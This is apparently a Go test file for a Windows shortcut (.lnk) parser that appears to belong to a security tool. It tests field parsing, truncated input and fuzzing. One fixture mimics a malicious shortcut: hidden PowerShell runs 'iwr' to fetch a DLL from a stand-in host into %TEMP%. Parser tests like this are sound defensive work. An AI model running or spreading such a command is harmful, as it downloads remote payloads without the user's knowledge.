package lnk

import (
	"testing"

	"github.com/sekisho/sekisho/internal/testutil/testdoc"
)

func TestParse(t *testing.T) {
	b := testdoc.LNK(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-w hidden -c "iwr http://x.example/a.dll"`, `%TEMP%`, 7)
	l, err := Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if l.Target != `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe` || l.Arguments != `-w hidden -c "iwr http://x.example/a.dll"` ||
		l.WorkingDir != `%TEMP%` || l.ShowCommand != 7 || l.Truncated {
		t.Fatalf("%+v", l)
	}
	// Cut anywhere: never a panic; the header alone still parses.
	for i := 0; i < len(b); i++ {
		l, err := Parse(b[:i])
		if i >= 76 && (err != nil || l == nil) {
			t.Fatalf("cut at %d: %v", i, err)
		}
	}
	if _, err := Parse([]byte("not a link at all, but long enough to look at the header of a link file here.....")); err != ErrNotLink {
		t.Fatal(err)
	}
}

func FuzzParse(f *testing.F) {
	f.Add(testdoc.LNK(`C:\Windows\System32\cmd.exe`, `/c calc`, `C:\`, 1))
	f.Add(testdoc.LNK("", "", "", 7))
	f.Fuzz(func(t *testing.T, b []byte) {
		l, err := Parse(b)
		if err == nil && (len(l.Arguments) > 4*MaxString || len(l.Target) > 8*MaxString) {
			t.Fatal("unbounded string")
		}
	})
}
